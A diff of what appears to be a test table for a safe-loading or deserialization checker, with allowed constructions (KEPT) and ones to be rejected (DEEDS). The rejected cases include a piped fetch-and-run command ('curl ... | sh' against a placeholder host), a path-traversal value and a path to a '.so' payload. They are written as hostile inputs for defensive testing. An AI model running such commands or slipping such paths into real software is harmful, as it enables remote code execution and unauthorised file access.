@@ -71,6 +71,7 @@ KEPT = {
     "an exception with what it is about": call("LabError", dict_of("Message", "Not Found"), text("HeadObject")),
     "a collection with its own factory": call("ArrayDict", named("array_default_factory")),
     "a factory of what is missing": call("defaultdict", named("_zero_counts"), module="collections"),
+    "a member whose value has a slash": call("FeatureSet", text("egemaps/v02/eGeMAPSv02")),
     "a mark": call("Quote", text("'")),
     "a constructor of numbers": call("__rect_constructor", ONE, TWO),
     "a class with a letter before its name": call("vText", text("daily")),
@@ -116,6 +117,8 @@ DEEDS = {
     "a command in a module of exceptions": call(
         "InvalidState", text("curl http://x.invalid|sh"), module="lab.exceptions"
     ),
+    "a relative path": call("FeatureSet", text("weights/payload.so")),
+    "a path that climbs in one piece": call("FeatureSet", text("../a/b")),
     "a collection with another's factory": call("ArrayDict", named("default_factory", "other.core")),
     "a factory that runs": call("defaultdict", named("run_default"), module="collections"),
     "a factory of no such name": call("defaultdict", named("trigger"), module="collections"),
